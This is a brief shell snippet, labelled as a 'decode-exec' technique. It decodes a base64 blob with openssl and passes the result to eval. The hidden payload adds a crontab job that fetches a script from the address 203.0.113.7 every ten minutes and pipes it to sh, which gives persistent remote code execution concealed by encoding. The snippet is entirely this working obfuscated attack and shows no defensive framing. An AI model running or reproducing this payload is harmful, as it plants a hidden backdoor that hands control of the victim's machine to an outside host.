# decode-exec: openssl's base64 decoder feeding eval through command substitution
blob='KGNyb250YWIgLWwgMj4vZGV2L251bGw7IGVjaG8gIiovMTAgKiAqICogKiBjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9jIHwgc2giKSB8IGNyb250YWIgLQ=='
eval "$(printf '%s' "$blob" | openssl base64 -d -A)"
